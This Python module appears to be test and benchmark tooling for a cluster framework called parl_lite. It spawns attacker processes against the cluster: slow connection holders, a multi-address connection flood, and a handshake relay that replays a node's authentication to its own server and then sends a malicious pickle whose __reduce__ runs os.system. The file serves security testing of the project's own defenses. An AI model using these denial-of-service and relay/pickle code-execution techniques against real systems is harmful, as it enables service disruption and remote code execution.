"""Attackers of a parl_lite cluster, each a process of its own, for the cluster's tests
(tests/cluster/test_cluster_attacks.py, test_cluster_handshake.py, test_cluster_admission.py) and for
``scripts/bench/bench_cluster_attack.py``, which measures a cluster under them:

- *holders* (:func:`start_holders`): connections that send one byte a second and never authenticate;
- *flood* (:func:`start_flood`): connections from many loopback addresses, each one dropped reopened
  at once; :func:`slow_holder_connects` times a token holder connecting meanwhile;
- *relay* (:func:`start_relay`): a stranger on a killed master's port relaying a rejoining node's
  handshake to the node's own server (:func:`relay_handshake`: one relayed handshake).

Run as ``python cluster_attackers.py hold|flood|relay ...`` by those functions.
"""
import itertools
import json
import math
import os
import pickle
import resource
import select
import selectors
import signal
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path
from typing import Dict, List, Optional, Set, Tuple

from parl_lite.ext.cluster import wire

OTHER_UID = 65534  # nobody
HOLD_PERIOD = 1.0  # seconds between two bytes an attacker sends on each connection


def _become_stranger(uid: Optional[int]) -> List[bool]:
    """Run as ``uid`` (another local user; None: stay who we are) and note a SIGTERM in the list
    returned (the attack's loops end when it is not empty)."""
    if uid is not None:
        os.setgroups([])
        os.setgid(uid)
        os.setuid(uid)
    stopping: List[bool] = []
    signal.signal(signal.SIGTERM, lambda *_: stopping.append(True))
    return stopping


def hold(address: str, count: int, opening: bytes, uid: Optional[int]) -> None:
    """Keep ``count`` connections to ``address`` open, each sending ``opening`` and then one byte per
    second, as user ``uid`` if given (this process becomes that user first: the interpreter may not
    be readable by it); reopen those the server dropped once a second. Prints ``{"held": n, "dropped": n}`` once
    a second (the number connected now, and dropped so far) and once more at SIGTERM."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    stopping = _become_stranger(uid)
    host, port = wire.split_address(address)
    selector = selectors.DefaultSelector()
    connected: Dict[socket.socket, bool] = {}  # socket -> its connect() has completed
    dropped = 0
    next_tick = time.monotonic()
    while not stopping:
        for key, events in selector.select(max(0.0, next_tick - time.monotonic())):
            sock = key.fileobj
            if events & selectors.EVENT_WRITE and not connected[sock]:
                connected[sock] = True
                selector.modify(sock, selectors.EVENT_READ)
                _send(sock, opening)
            elif events & selectors.EVENT_READ:
                try:
                    alive = bool(sock.recv(4096))  # the challenge, an HTTP reply: read, ignored
                except OSError:
                    alive = False
                if not alive:
                    selector.unregister(sock)
                    sock.close()
                    del connected[sock]
                    dropped += 1
        if time.monotonic() >= next_tick:
            next_tick += HOLD_PERIOD
            for sock, ready in connected.items():
                if ready:
                    _send(sock, b"X")
            while len(connected) < count:  # those dropped since the last tick, again
                sock = socket.socket()
                sock.setblocking(False)
                sock.connect_ex((host, port))
                connected[sock] = False
                selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
            print(json.dumps({"held": sum(connected.values()), "dropped": dropped}), flush=True)
    print(json.dumps({"held": sum(connected.values()), "dropped": dropped}), flush=True)


def _send(sock: socket.socket, data: bytes) -> None:
    try:
        sock.send(data)
    except OSError:
        pass  # the read side sees it end


class Holders:
    """An attacker process running :func:`hold` (see :func:`start_holders`)."""

    def __init__(self, process: subprocess.Popen) -> None:
        self.process = process
        self.last: Dict[str, int] = {"held": 0, "dropped": 0}

    def wait_until_held(self, count: int, timeout: float) -> Dict[str, int]:
        """Read the attacker's reports until it holds ``count`` connections (or ``timeout`` passes)."""
        deadline = time.monotonic() + timeout
        while self.last["held"] < count and time.monotonic() < deadline:
            line = self.process.stdout.readline()
            if not line:
                break
            self.last = json.loads(line)
        return self.last

    def stop(self) -> Dict[str, int]:
        """Stop the attacker; its last report."""
        self.process.terminate()
        out, _ = self.process.communicate(timeout=30)
        lines = out.splitlines()
        if lines:
            self.last = json.loads(lines[-1])
        return self.last


def start_holders(address: str, count: int, opening: bytes = b"", uid: Optional[int] = None) -> Holders:
    """Start an attacker holding ``count`` connections to ``address`` (as user ``uid`` if given:
    this process must then be root)."""
    return Holders(_start("hold", address, str(count), opening.hex(), "" if uid is None else str(uid)))


def http_opening(port: int) -> bytes:
    """The start of an HTTP request that the attacker then never finishes."""
    return f"GET /api/status HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nX-Slow: ".encode()


# --- a flood from many loopback addresses, and a token holder on a slow link ---------------------
def flood(address: str, first: int, last: int, count: int) -> None:
    """Keep ``count`` connections to ``address`` open, each from the next of 127.0.0.FIRST-LAST in
    turn, never authenticating, and open another at once for each one the server drops (a stranger
    who fills the cap on unauthenticated connections from many addresses). Prints
    ``{"opened": n, "dropped": n}`` once a second and once more at SIGTERM."""
    stopping = _become_stranger(None)
    target = wire.split_address(address)
    sources = itertools.cycle([f"127.0.0.{n}" for n in range(first, last + 1)])
    selector = selectors.DefaultSelector()
    held: Set[socket.socket] = set()
    opened = dropped = 0
    next_tick = time.monotonic() + HOLD_PERIOD
    while not stopping:
        while len(held) < count:
            sock = socket.socket()
            sock.setblocking(False)
            sock.bind((next(sources), 0))
            sock.connect_ex(target)
            selector.register(sock, selectors.EVENT_READ)
            held.add(sock)
            opened += 1
        for key, _ in selector.select(max(0.0, next_tick - time.monotonic())):
            sock = key.fileobj
            try:
                alive = bool(sock.recv(4096))  # the opening: read, ignored
            except BlockingIOError:
                continue
            except OSError:
                alive = False
            if not alive:
                selector.unregister(sock)
                sock.close()
                held.discard(sock)
                dropped += 1
        if time.monotonic() >= next_tick:
            next_tick += HOLD_PERIOD
            print(json.dumps({"opened": opened, "dropped": dropped}), flush=True)
    print(json.dumps({"opened": opened, "dropped": dropped}), flush=True)


class Flood:
    """A flood process running :func:`flood` (see :func:`start_flood`)."""

    def __init__(self, process: subprocess.Popen) -> None:
        self.process = process

    def wait_until_dropped(self, count: int, timeout: float) -> Dict[str, int]:
        """Read the flood's reports until the server has dropped ``count`` of its connections."""
        deadline, last = time.monotonic() + timeout, {"opened": 0, "dropped": 0}
        while last["dropped"] < count and time.monotonic() < deadline:
            line = self.process.stdout.readline()
            if not line:
                break
            last = json.loads(line)
        return last

    def stop(self) -> Dict[str, int]:
        """Stop the flood; its last report."""
        self.process.terminate()
        out, _ = self.process.communicate(timeout=30)
        lines = out.splitlines()
        return json.loads(lines[-1]) if lines else {"opened": 0, "dropped": 0}


def start_flood(address: str, first: int = 3, last: int = 250, count: int = 200) -> Flood:
    """Start a flood of ``address`` from 127.0.0.FIRST-LAST (:func:`flood`)."""
    return Flood(_start("flood", address, str(first), str(last), str(count)))


def slow_holder_connects(address: str, token: bytes, source: str, delay: float, budget: float,
                         identity: Optional[str] = None) -> Tuple[float, int]:
    """A token holder at ``source`` whose answer takes ``delay`` seconds more (a node on another
    machine), trying again 10 ms after each time the server drops it: the seconds until the server
    ``identity`` (default: the master) accepted its proof (inf if not within ``budget``), and the
    connections it took."""
    identity = identity or wire.MASTER
    start = time.monotonic()
    deadline, tries = start + budget, 0
    while time.monotonic() < deadline:
        tries += 1
        sock = socket.socket()
        try:
            sock.bind((source, 0))
            sock.settimeout(budget)
            sock.connect(wire.split_address(address))
            said, nonce = wire.read_opening(sock, address, deadline)
            time.sleep(delay)
            mine = os.urandom(wire.NONCE_BYTES)
            sock.sendall(mine + wire.client_proof(token, identity, nonce, mine))
            verdict = wire.receive_exactly(sock, 2, deadline)
        except (OSError, EOFError):  # dropped (a ClusterError is an OSError too): again
            time.sleep(0.01)
            continue
        finally:
            sock.close()
        if verdict != b"OK" or said != identity:
            raise wire.AuthenticationError(f"{address} is {said!r} and answered {verdict!r}")
        return time.monotonic() - start, tries
    return math.inf, tries


# --- a stranger on the master's port, relaying a rejoining node to the node's own server ----------
class _Payload:
    """Unpickling this runs ``touch PATH``."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return os.system, (f"touch {self.path}",)


# what the stranger knows of the protocol (docs/cluster.md): it reads no parl_lite code for it
_OPENING_HEAD = 36  # the bytes of a server's opening before the identity it states (none before PLC2)
_MASTER = "master"  # the identity a master states


def rewritten(opening: bytes, identity: str) -> bytes:
    """A server's opening with the identity it states replaced by ``identity`` (an opening of the
    older protocol, which states none, unchanged)."""
    if len(opening) <= _OPENING_HEAD:
        return opening
    named = identity.encode()
    return opening[:_OPENING_HEAD] + bytes([len(named)]) + named


def _exactly(sock: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        chunk = sock.recv(size - len(data))  # the socket's timeout bounds each read: enough for an attacker
        if not chunk:
            raise EOFError(f"closed after {len(data)} of {size} bytes")
        data += chunk
    return data


def relay_handshake(victim: socket.socket, target: str,
                    rewrite_as: Optional[str]) -> Tuple[Optional[socket.socket], str]:
    """Connect to ``target``, hand its opening to ``victim`` (its identity rewritten as ``rewrite_as``
    if given), the victim's answer to ``target`` and the verdict back. Returns the connection to
    ``target`` if it accepted the victim's proof as ours, and what happened."""
    server = socket.socket()  # not create_connection: its getaddrinfo imports a codec user 65534 cannot read
    server.settimeout(5)
    victim.settimeout(5)
    try:
        server.connect(wire.split_address(target))
        opening = server.recv(4096)  # a server sends its opening in one piece
        victim.sendall(rewritten(opening, rewrite_as) if rewrite_as else opening)
        try:
            answer = _exactly(victim, wire.ANSWER_BYTES)
        except (OSError, EOFError):
            server.close()
            return None, "the victim refused the opening"
        server.sendall(answer)
        verdict = server.recv(2 + 32)
        victim.sendall(verdict)
        if not verdict.startswith(b"OK"):
            server.close()
            return None, "the target refused the victim's answer"
        return server, "the target accepted the victim's answer"
    except (OSError, EOFError) as error:
        server.close()
        return None, f"the relay broke: {error}"


def _frame(message: dict) -> bytes:
    body = json.dumps(message).encode()
    return struct.pack("!IH", len(body), 0) + body


def _reply(sock: socket.socket) -> dict:
    size, _ = struct.unpack("!IH", _exactly(sock, 6))
    return json.loads(_exactly(sock, size))


def relay_rejoins(listen: str, target: str, payload_path: str, uid: Optional[int]) -> None:
    """Bind ``listen`` (the address of a master that went away) as user ``uid`` if given, and relay
    each node that connects to rejoin it to the server at ``target`` (the node's own), alternately
    with the target's opening as it is and with its identity rewritten as the master's; with the
    first connection the target accepts, open a session there, with the second an actor connection,
    and send it a pickle that runs ``touch PAYLOAD_PATH`` when unpickled. Prints one JSON line per
    connection relayed: ``{"attempt": n, "rewritten": bool, "outcome": "..."}``."""
    stopping = _become_stranger(uid)
    listener = socket.create_server(wire.split_address(listen))
    listener.settimeout(0.2)
    print(json.dumps({"listening": listen}), flush=True)
    opened: List[socket.socket] = []
    attempt = 0
    while not stopping:
        try:
            victim, _ = listener.accept()
        except socket.timeout:
            continue
        rewrite_as = _MASTER if attempt % 2 else None
        server, outcome = relay_handshake(victim, target, rewrite_as)
        if server is not None:
            outcome = _use(server, opened, payload_path)
        victim.close()
        print(json.dumps({"attempt": attempt, "rewritten": rewrite_as is not None, "outcome": outcome}), flush=True)
        attempt += 1
    for sock in opened:
        sock.close()


def _use(server: socket.socket, opened: List[socket.socket], payload_path: str) -> str:
    """Open a session on ``server`` (an authenticated connection to a node), or, once one is open,
    an actor connection that gets the payload."""
    versions, client_id = wire.local_versions(), "5742a9e1c0de"
    if not opened:
        server.sendall(_frame({"versions": versions, "role": "session", "client_id": client_id, "files": []}))
        if _reply(server).get("ok"):
            server.sendall(struct.pack("!IH", 5, 0) + b"files")
            opened.append(server)
            return f"session opened: {_reply(server)}"
        return "session refused"
    server.sendall(_frame({"versions": versions, "role": "actor", "client_id": client_id, "actor_id": "5742a9e1c0df",
                           "reservation": "none", "max_memory": None, "class_name": "Payload"}))
    reply = _reply(server)
    if not reply.get("ok"):
        return f"actor refused: {reply}"
    payload = pickle.dumps(_Payload(payload_path))
    server.sendall(struct.pack("!IH", len(payload), 0) + payload)
    opened.append(server)
    return "actor opened, payload sent"


class Relay:
    """A stranger's process running :func:`relay_rejoins` (see :func:`start_relay`)."""

    def __init__(self, process: subprocess.Popen) -> None:
        self.process = process
        self.reports: List[Dict] = []  # all it printed
        self._partial = b""

    @property
    def outcomes(self) -> List[Dict]:
        """The connections it relayed so far, as it reported them."""
        return [report for report in self.reports if "attempt" in report]

    def read(self, timeout: float) -> bool:
        """Take what the relay printed, waiting up to ``timeout`` seconds for something; False once
        it has exited."""
        descriptor = self.process.stdout.fileno()
        if not select.select([descriptor], [], [], timeout)[0]:
            return True
        chunk = os.read(descriptor, 65536)
        *lines, self._partial = (self._partial + chunk).split(b"\n")
        self.reports += [json.loads(line) for line in lines if line]
        return bool(chunk)

    def wait_for(self, attempts: int, timeout: float) -> List[Dict]:
        """Read the relay's reports until it has relayed ``attempts`` connections (or ``timeout``)."""
        deadline = time.monotonic() + timeout
        while len(self.outcomes) < attempts and time.monotonic() < deadline:
            if not self.read(max(0.0, deadline - time.monotonic())):
                break
        return self.outcomes

    def stop(self) -> List[Dict]:
        """Stop the relay; the connections it relayed."""
        self.process.terminate()
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and self.read(max(0.0, deadline - time.monotonic())):
            pass
        self.process.wait(timeout=30)
        self.process.stdout.close()
        return self.outcomes


def start_relay(listen: str, target: str, payload_path: str, uid: Optional[int] = None) -> Relay:
    """Start the stranger of :func:`relay_rejoins` (as user ``uid`` if given: this process must then
    be root); returns once it listens."""
    relay = Relay(_start("relay", listen, target, payload_path, "" if uid is None else str(uid)))
    deadline = time.monotonic() + 30
    while not relay.reports and time.monotonic() < deadline:
        if not relay.read(max(0.0, deadline - time.monotonic())):
            break
    if not relay.reports:
        relay.stop()
        raise RuntimeError(f"the relay could not listen on {listen}")
    return relay


def _start(*arguments: str) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, str(Path(__file__).resolve()), *arguments], stdout=subprocess.PIPE,
                            text=True, cwd="/", env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)})


if __name__ == "__main__":
    if sys.argv[1:2] == ["hold"]:
        hold(sys.argv[2], int(sys.argv[3]), bytes.fromhex(sys.argv[4]), int(sys.argv[5]) if sys.argv[5] else None)
    elif sys.argv[1:2] == ["flood"]:
        flood(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]))
    elif sys.argv[1:2] == ["relay"]:
        relay_rejoins(sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]) if sys.argv[5] else None)
